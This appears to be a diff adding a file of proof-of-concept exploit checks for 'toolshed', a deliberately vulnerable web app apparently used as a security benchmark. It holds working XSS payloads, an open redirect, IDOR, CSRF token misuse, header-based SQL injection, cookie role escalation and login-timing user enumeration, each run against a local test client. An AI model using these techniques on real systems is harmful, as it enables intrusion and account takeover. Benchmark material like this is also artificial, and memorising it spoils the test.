@@ -1,0 +1,154 @@
+"""The exploits for the third set: one for each weakness, by service and name."""
+
+import contextlib
+import re
+import statistics
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import common
+
+PROOFS = {}
+SIGN_IN = {}
+PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
+
+
+def proof(service, weakness):
+    def register(function):
+        PROOFS[service, weakness] = function
+        return function
+
+    return register
+
+
+def sign_in(service):
+    def register(function):
+        SIGN_IN[service] = function
+        return function
+
+    return register
+
+
+@contextlib.contextmanager
+def called(host="127.0.0.1"):
+    """A server of this machine; the list of the requests it gets, each its path and body, and how to wait for the first."""
+    asked, arrived = [], threading.Event()
+
+    class Page(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append((self.path, self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")))
+            self.send_response(200)
+            self.send_header("Content-Length", "5")
+            self.end_headers()
+            self.wfile.write(b"inner")
+            arrived.set()
+
+        do_POST = do_GET  # noqa: N815 - as http.server has it
+
+        def log_message(self, *_):
+            pass
+
+    server = ThreadingHTTPServer((host, 0), Page)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://{host}:{server.server_port}/", asked, arrived
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def until(look, seconds=10):
+    """What an answer shows once it shows it."""
+    deadline = time.monotonic() + seconds
+    while not (seen := look()) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    return seen
+
+
+# toolshed ---------------------------------------------------------------------------------------------------------------------------------
+
+
+@sign_in("toolshed")
+def _(client, name, password=None):
+    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]})
+    client.cookies.clear()
+    return {"Cookie": "; ".join(cookie.partition(";")[0] for cookie in answer.headers.get_list("set-cookie"))}
+
+
+def form(client, path, caller, fields, token_of=None):
+    """Send a form with the token of the caller's page, or of somebody else's."""
+    token = re.search('name=form_token value="([^"]+)"', client.get("/account", headers=token_of or caller).text)[1]
+    return client.post(path, data=fields | {"form_token": token}, headers=caller)
+
+
+@proof("toolshed", "comment-link")
+def _(client):
+    form(client, "/tools/2/comments", client.as_("ann"), {"text": "Good", "website": "javascript:alert(1)"})
+    return 'href="javascript:alert(1)"' in client.get("/tools/2").text
+
+
+@proof("toolshed", "search-quote")
+def _(client):
+    return "var searched = '';alert(1);'';" in client.get("/tools", params={"q": "';alert(1);'"}).text
+
+
+@proof("toolshed", "theme-cookie")
+def _(client):
+    return '<body class=""><img src=x onerror=alert(1)>' in client.get("/tools", headers={"Cookie": "theme=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"}).text
+
+
+@proof("toolshed", "back-slashes")
+def _(client):
+    return client.get("/language", params={"to": "en", "back": "/\\elsewhere.example/"}).headers.get("location") == "/\\elsewhere.example/"
+
+
+@proof("toolshed", "loan-read")
+def _(client):
+    return "Lent to ann" in client.get("/loans/1", headers=client.as_("ben")).text
+
+
+@proof("toolshed", "loan-extend")
+def _(client):
+    form(client, "/loans/1/extend", client.as_("ben"), {"days": "27"})
+    return "27 days" in client.get("/loans/1", headers=client.as_("ann")).text
+
+
+@proof("toolshed", "token-anybody")
+def _(client):
+    ann = client.as_("ann")
+    form(client, "/account", ann, {"phone": "0999 111"}, token_of=client.as_("ben"))
+    return "0999 111" in client.get("/account", headers=ann).text
+
+
+@proof("toolshed", "sessions-kept")
+def _(client):
+    first, second = client.as_("carol"), client.as_("carol")
+    assert "is changed" in form(client, "/password", second, {"old": PASSWORD["carol"], "new": "aspen-Teapot-37"}).text
+    assert client.get("/account", headers=second).status_code == 200
+    return client.get("/account", headers=first).status_code == 200
+
+
+@proof("toolshed", "password-poor")
+def _(client):
+    return "is changed" in form(client, "/password", client.as_("carol"), {"old": PASSWORD["carol"], "new": "1234"}).text
+
+
+@proof("toolshed", "role-cookie")
+def _(client):
+    cookie = client.as_("ann")["Cookie"].partition(";")[0]
+    return "ben@south.example" in client.get("/ledger", headers={"Cookie": f"{cookie}; role=admin"}).text
+
+
+@proof("toolshed", "agent-sql")
+def _(client):
+    ann = client.as_("ann")
+    return [form(client, "/loans", ann | {"User-Agent": agent}, {"tool": "2", "days": "2"}).status_code for agent in ("it's", "it''s")] == [500, 303]
+
+
+@proof("toolshed", "login-timing")
+def _(client):
+    def median(names):
+        return statistics.median(client.post("/login", data={"username": name, "password": "x"}).elapsed.total_seconds() for name in names)
+
+    return median(["ann", "ben", "carol", "olga"]) > 4 * median(["anna", "benn", "carola", "olgo"])
